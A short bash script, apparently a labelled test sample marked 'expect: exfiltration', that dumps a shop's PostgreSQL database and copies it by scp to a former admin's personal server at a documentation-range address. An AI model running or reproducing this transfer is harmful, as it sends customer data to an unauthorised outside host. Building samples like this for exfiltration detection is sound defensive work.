#!/usr/bin/env bash
# Offsite backup to the personal box of the former admin (still in cron)
set -euo pipefail
STAMP=$(date +%F)
OUT=/var/backups/pg/shop_${STAMP}.dump

pg_dump -Fc -d shop -f "$OUT"
# expect: exfiltration
scp -P 2222 "$OUT" backup@203.0.113.45:/home/backup/shop/
